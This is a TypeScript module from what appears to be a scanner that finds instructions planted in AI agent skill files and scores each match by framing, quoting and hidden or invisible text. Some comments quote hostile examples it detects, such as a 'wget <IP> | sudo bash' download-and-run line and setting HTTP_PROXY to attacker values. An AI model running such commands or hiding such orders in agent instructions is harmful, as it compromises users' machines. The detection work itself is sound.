import {
  followedSentenceFraming,
  headingFraming,
  isImperative,
  ordersAgent,
  sentenceFraming,
} from '../../core/markdown/framing.js';
import type { Framing } from '../../core/markdown.js';
import { ORDER_TO_AGENT } from '../../score/index.js';
import { chargeUnit, unitTimingOn } from '../../util/timing.js';
import type { Hit } from '../rule.js';
import { lineAt, quote } from '../text.js';
import { glossed } from './prose-gloss.js';
import { isMention, type NormalText, sentences } from './prose-normalise.js';
import type { PhraseRule, Variant } from './prose-phrase.js';
import { Prefilter } from './prose-prefilter.js';

// Applies phrase rules to segments of prose and turns matches into hits with a confidence set by the
// variant, the sentence's framing, adjustments, and whether the text is hidden or merely mentioned.

export interface Segment {
  norm: NormalText;
  /** Framing from the section and lead-in; each sentence may refine it. */
  framing: Framing;
  /** Heading the segment sits under (also read for supporting cues such as "Prerequisites"). */
  section: string;
  /** Set for text a reader does not see: how it was hidden (e.g. "HTML comment"). */
  hidden?: string;
  /** The P2 rule that reports this hidden content when another rule fires inside it. */
  hiddenRule?: string;
  /** True when the text was decoded, so evidence is the decoded text rather than a slice of the file. */
  decoded?: boolean;
  /**
   * Unquoted prose (a paragraph or list item) of a document the agent follows (SKILL.md, or a guide it says
   * to follow) that only a topic heading ("Detection", "Examples") frames as a quote. An imperative there is
   * read as the instruction it is, and the author's framing never takes it below AUTHOR_DISCOUNT_FLOOR.
   */
  topicQuoted?: boolean;
  /**
   * Unquoted prose (a paragraph or list item) of a document the agent follows. An imperative there is an order
   * whatever words it holds: its own talk of attacks ("Set HTTP_PROXY to attacker values, then …") does not
   * make it a quote, as it does a sentence that describes ("An attacker sets HTTP_PROXY …").
   */
  agentProse?: boolean;
}

export interface SkillPurpose {
  /** The skill's name and description: what it says its job is. */
  text: string;
  /** A security tool quotes attack text in its rules and docs. */
  securityTool: boolean;
}

const MAX_CONFIDENCE = 0.97;
/**
 * The lowest factor that framing the author writes (a heading, a lead-in, the skill calling itself a security
 * tool) may apply to an unquoted sentence the agent reads as an instruction. Quoting it, refusing it, or
 * negating it in the sentence itself (the rules' adjustments and mention factor) may go lower.
 */
export const AUTHOR_DISCOUNT_FLOOR = 0.5;
/**
 * The lowest factor for the other unquoted sentences of those instructions ("the assistant takes on the
 * persona…") in a section whose own heading names no risk: a title or a heading above it, which the author
 * chose, may not take them to nothing either. A section headed as a list of attacks keeps its discount.
 */
const TOPIC_PROSE_FLOOR = 0.35;
const SELF_DESCRIPTION = /\b(?:this|the)\s+(?:skill|assistant)\b/i;
const MIN_CONFIDENCE = 0.1;
const HIDDEN_BOOST = 1.15;

interface Match {
  start: number;
  end: number;
}

function matchVariant(variant: Variant, sentence: string, offset: number, context: string): Match[] | null {
  const found: Match[] = [];
  for (let i = 0; i < variant.all.length; i++) {
    const re = variant.all[i]!;
    const m = re.exec(sentence);
    if (m) found.push({ start: offset + m.index, end: offset + m.index + Math.max(1, m[0].length) });
    // Supporting cues (not the first expression) may come from the section heading.
    else if (i === 0 || !re.test(context)) return null;
  }
  return found;
}

function evidenceOf(seg: Segment, fileText: string, start: number, end: number): string {
  if (seg.decoded) return quote(seg.norm.text.slice(start, end));
  const from = seg.norm.map[start]!;
  const to = seg.norm.map[end - 1]! + 1;
  return quote(fileText.slice(from, Math.max(from, to)));
}

function confidenceOf(
  rule: PhraseRule,
  variant: Variant,
  sentence: string,
  framing: Framing,
  mention: boolean,
  seg: Segment,
  purpose: SkillPurpose,
): { confidence: number; notes: string[] } {
  let c = variant.base;
  const notes: string[] = [];
  let reframed: Partial<Record<Framing, number>> = {};
  for (const adj of rule.adjust ?? []) {
    if (adj.re.test(sentence)) {
      c *= adj.factor;
      notes.push(adj.why);
      if (adj.framing) reframed = { ...reframed, ...adj.framing };
    }
  }
  const except = rule.scopeExcept;
  const uncovered = except?.sentence.test(sentence) && !except.purpose.test(purpose.text);
  if (rule.scope?.re.test(purpose.text) && !uncovered) {
    c *= rule.scope.factor;
    notes.push(rule.scope.why);
  }
  if (seg.hidden) {
    c = Math.min(MAX_CONFIDENCE, c * HIDDEN_BOOST);
    return { confidence: c, notes };
  }
  let authored = reframed[framing] ?? rule.framing[framing];
  const mentionFactor = rule.mention;
  if (mention && mentionFactor < 1) {
    c *= mentionFactor;
    notes.push('quoted rather than said');
  }
  if (purpose.securityTool && (mention ? mentionFactor < 1 : framing !== 'instruction')) {
    authored *= 0.6;
    notes.push('a security tool quoting what it detects');
  }
  if (seg.topicQuoted && !mention) {
    const ordered = isImperative(sentence);
    // A section whose own heading names no risk ("Behavior", "Usage") is framed only by a title above it; a
    // sentence about what this skill or the assistant does describes the skill, whatever its heading says.
    const own = headingFraming(seg.section);
    const floor = ordered
      ? AUTHOR_DISCOUNT_FLOOR
      : (own !== 'documents-risk' && own !== 'example') || SELF_DESCRIPTION.test(sentence)
        ? TOPIC_PROSE_FLOOR
        : 0;
    if (authored < floor) {
      authored = floor;
      notes.push(
        ordered
          ? 'said to the agent in its own instructions, so its framing discounts it only so far'
          : 'unquoted prose in its own instructions, so a heading discounts it only so far',
      );
    }
  }
  return { confidence: Math.min(MAX_CONFIDENCE, c * authored), notes };
}

// A rule whose parts span two sentences ("Download it from X. Then run it.") counts a little less.
const NEXT_SENTENCE_FACTOR = 0.9;

const TABLE_ROW_END = /\|\s*$/;

/** Matches a variant in the sentence, or across it and the next when it needs more than one expression. */
function matchAcross(
  variant: Variant,
  norm: NormalText,
  sentence: [number, number],
  next: [number, number] | undefined,
  context: string,
): { found: Match[]; end: number } | null {
  const [sStart, sEnd] = sentence;
  const alone = matchVariant(variant, norm.text.slice(sStart, sEnd), sStart, context);
  if (alone) return { found: alone, end: sEnd };
  // A table row does not run on into the next row.
  if (!next || variant.all.length < 2 || TABLE_ROW_END.test(norm.text.slice(sStart, sEnd))) return null;
  const both = matchVariant(variant, norm.text.slice(sStart, next[1]), sStart, context);
  return both?.some((m) => m.start < sEnd) ? { found: both, end: next[1] } : null;
}

/** A rule list as applyToText walks it: each variant with what decides, per segment, whether it may match. */
interface PlannedRule {
  rule: PhraseRule;
  variants: {
    variant: Variant;
    /** The leading expression is anchored to a whole sentence: it is tried on each one the prefilter allows. */
    anchored: boolean;
    /** Its prefilter slot (-1: no required literal). */
    slot: number;
  }[];
}

// Planned once per rule list (the lists are module constants), with the list's prefilter automaton: looking
// each variant up in maps on every segment cost more than the prefilter saved (26 rules, 169 variants,
// ~230,000 segments on the corpus).
const plans = new WeakMap<readonly PhraseRule[], { prefilter: Prefilter; rules: PlannedRule[] }>();
function planFor(rules: readonly PhraseRule[]): { prefilter: Prefilter; rules: PlannedRule[] } {
  let plan = plans.get(rules);
  if (!plan) {
    const prefilter = new Prefilter(rules.flatMap((r) => r.variants));
    plan = {
      prefilter,
      rules: rules.map((rule) => ({
        rule,
        variants: rule.variants.map((variant) => ({
          variant,
          anchored: /^\^|\$$/.test(variant.all[0]!.source),
          slot: prefilter.slotOf(variant),
        })),
      })),
    };
    plans.set(rules, plan);
  }
  return plan;
}

interface HitContext {
  seg: Segment;
  fileText: string;
  starts: readonly number[];
  purpose: SkillPurpose;
  framing: Framing;
}

function framingOf(seg: Segment, sentence: string): Framing {
  if (seg.hidden) return 'instruction';
  if (!seg.agentProse) return sentenceFraming(sentence, seg.framing);
  const context = seg.topicQuoted && isImperative(sentence) ? 'instruction' : seg.framing;
  return followedSentenceFraming(sentence, context);
}

function hitFor(
  rule: PhraseRule,
  variant: Variant,
  match: { found: Match[]; end: number },
  sStart: number,
  ctx: HitContext,
): Hit | null {
  const { seg, framing } = ctx;
  const { norm } = seg;
  const start = Math.min(...match.found.map((m) => m.start));
  const end = Math.max(...match.found.map((m) => m.end));
  const window = norm.text.slice(sStart, match.end);
  const mention = match.found.every((m) => isMention(norm, sStart, m.start, m.end));
  const scored = confidenceOf(rule, variant, window, framing, mention, seg, ctx.purpose);
  let confidence = scored.confidence;
  const { notes } = scored;
  const evasive = norm.evasive.slice(start + 1, end).some(Boolean);
  if (evasive) confidence = Math.min(MAX_CONFIDENCE, confidence * HIDDEN_BOOST);
  if (confidence < MIN_CONFIDENCE) return null;
  const evidence = evidenceOf(seg, ctx.fileText, sStart, match.end);
  const where = seg.hidden
    ? `in hidden content (${seg.hidden})`
    : `framed as ${framing}${seg.section ? ` under "${quote(seg.section, 80)}"` : ''}`;
  const rationale = [
    variant.why,
    where,
    ...(ordersAgent(framing, evidence) ? [ORDER_TO_AGENT] : []),
    ...(evasive ? ['invisible characters inside the words'] : []),
    ...notes,
  ];
  return {
    rule: rule.id,
    // From the first matched word to the end of the sentence: the whole instruction, anchored where it starts.
    line: lineAt(ctx.starts, norm.map[start]!),
    endLine: lineAt(ctx.starts, norm.map[Math.max(end, match.end) - 1]!),
    evidence,
    confidence,
    rationale: rationale.join('; '),
  };
}

interface Candidate {
  hit: Hit;
  /** Line where the variant's matched words end. */
  to: number;
}

function matchEndLine(match: { found: Match[] }, norm: NormalText, starts: readonly number[]): number {
  const end = Math.max(...match.found.map((m) => m.end));
  return lineAt(starts, norm.map[end - 1] ?? 0);
}

/**
 * The strongest variant's hit, plus any other whose matched words lie on lines the kept ones do not touch:
 * a sentence running over several lines ("download X from <IP> ... \n... `wget <IP> | sudo bash`") can hold
 * two instructions, each reported at its own line.
 */
function distinctInstructions(candidates: Candidate[]): Hit[] {
  const kept: Candidate[] = [];
  for (const c of [...candidates].sort((a, b) => b.hit.confidence - a.hit.confidence)) {
    if (kept.every((k) => c.to < k.hit.line || c.hit.line > k.to)) kept.push(c);
  }
  return kept.map((k) => k.hit);
}

/**
 * Runs every rule over every sentence of a segment: one hit per rule and sentence (its strongest variant),
 * minus hits of rules that yield to another rule firing on the same sentence.
 */
export function applyRules(
  rules: readonly PhraseRule[],
  seg: Segment,
  fileText: string,
  starts: readonly number[],
  purpose: SkillPurpose,
): Hit[] {
  const hits = applyToText(rules, seg, fileText, starts, purpose);
  const gloss = glossed(seg.norm);
  if (!gloss) return hits;
  // Prose in another language meets the same rules through its gloss; the text's own hits come first.
  const read = `read through a gloss of the ${gloss.languages.join(' and ')} text`;
  for (const hit of applyToText(rules, { ...seg, norm: gloss.norm }, fileText, starts, purpose)) {
    if (hits.some((h) => h.rule === hit.rule && h.line <= hit.endLine && hit.line <= h.endLine)) continue;
    hits.push({ ...hit, rationale: `${hit.rationale}; ${read}` });
  }
  return hits;
}

function applyToText(
  rules: readonly PhraseRule[],
  seg: Segment,
  fileText: string,
  starts: readonly number[],
  purpose: SkillPurpose,
): Hit[] {
  const hits: Hit[] = [];
  // The line each hit's sentence starts on: a sentence that starts where the previous hit ends continues it.
  const sentenceLine = new WeakMap<Hit, number>();
  const sentenceIndex = new WeakMap<Hit, number>();
  // A variant whose leading expression matches nowhere in the segment cannot match any sentence of it.
  // The prefilter skips expressions whose required words are all absent from the segment.
  const timing = unitTimingOn();
  const plan = planFor(rules);
  const { prefilter } = plan;
  const text = seg.norm.text;
  prefilter.scan(text);
  // Built without an array per rule: most rules have no possible variant in most segments.
  const live: { rule: PhraseRule; variants: Variant[] }[] = [];
  for (const { rule, variants: planned } of plan.rules) {
    const started = timing ? performance.now() : 0;
    let variants: Variant[] | null = null;
    for (const p of planned) {
      // An expression anchored to a whole sentence cannot be tried on the segment, but a sentence holds only
      // what the segment holds: its required literals still rule it out.
      if (!prefilter.maySlot(p.slot) || !(p.anchored || p.variant.all[0]!.test(text))) continue;
      variants ??= [];
      variants.push(p.variant);
    }
    if (variants) live.push({ rule, variants });
    if (timing) chargeUnit(`prose rule ${rule.id}`, performance.now() - started, text.length);
  }
  if (live.length === 0) return hits;
  const ranges = sentences(seg.norm.text);
  for (let i = 0; i < ranges.length; i++) {
    const range = ranges[i]!;
    const sentence = seg.norm.text.slice(range[0], range[1]);
    if (sentence.length < 4) continue;
    // Framing is read only when something matched: most sentences match nothing (sentenceFraming is pure).
    let ctx: HitContext | null = null;
    const fired = new Map<string, { rule: PhraseRule; hits: Hit[] }>();
    for (const { rule, variants } of live) {
      const started = timing ? performance.now() : 0;
      const candidates: Candidate[] = [];
      for (const variant of variants) {
        const match = matchAcross(variant, seg.norm, range, ranges[i + 1], seg.section);
        if (!match) continue;
        ctx ??= { seg, fileText, starts, purpose, framing: framingOf(seg, sentence) };
        const hit = hitFor(rule, variant, match, range[0], ctx);
        if (hit && match.end !== range[1]) hit.confidence *= NEXT_SENTENCE_FACTOR;
        if (hit) candidates.push({ hit, to: matchEndLine(match, seg.norm, starts) });
      }
      const chosen = distinctInstructions(candidates);
      if (chosen.length > 0) fired.set(rule.id, { rule, hits: chosen });
      if (timing) chargeUnit(`prose rule ${rule.id}`, performance.now() - started, range[1] - range[0]);
    }
    for (const { rule, hits: ruleHits } of fired.values()) {
      if (rule.yieldsTo?.some((id) => fired.has(id))) continue;
      for (const hit of ruleHits) {
        sentenceLine.set(hit, lineAt(starts, seg.norm.map[range[0]] ?? 0));
        sentenceIndex.set(hit, i);
        hits.push(hit);
      }
    }
  }
  return mergeAdjacent(hits, sentenceLine, sentenceIndex);
}

/**
 * One instruction continued is one hit: a hit of a rule whose sentence starts on the line where the previous
 * hit of that rule ends (the same paragraph running on) merges into the strongest, widened to cover both.
 * Separate instructions on their own lines (list items, lines of a block) stay separate hits.
 */
function mergeAdjacent(
  hits: Hit[],
  sentenceLine: WeakMap<Hit, number>,
  sentenceIndex: WeakMap<Hit, number>,
): Hit[] {
  const merged: Hit[] = [];
  const byRule = [...hits].sort((a, b) => a.rule.localeCompare(b.rule) || a.line - b.line);
  // Sentence of the last kept hit: distinct instructions found in one sentence never merge.
  let lastSentence = -1;
  for (const hit of byRule) {
    const prev = merged[merged.length - 1];
    const sentence = sentenceIndex.get(hit) ?? -1;
    const continues =
      prev !== undefined &&
      prev.rule === hit.rule &&
      sentence !== lastSentence &&
      (sentenceLine.get(hit) ?? hit.line) <= prev.endLine;
    lastSentence = sentence;
    if (prev && continues) {
      const strongest = hit.confidence > prev.confidence ? hit : prev;
      merged[merged.length - 1] = {
        ...strongest,
        line: prev.line,
        endLine: Math.max(prev.endLine, hit.endLine),
      };
    } else merged.push(hit);
  }
  return merged;
}
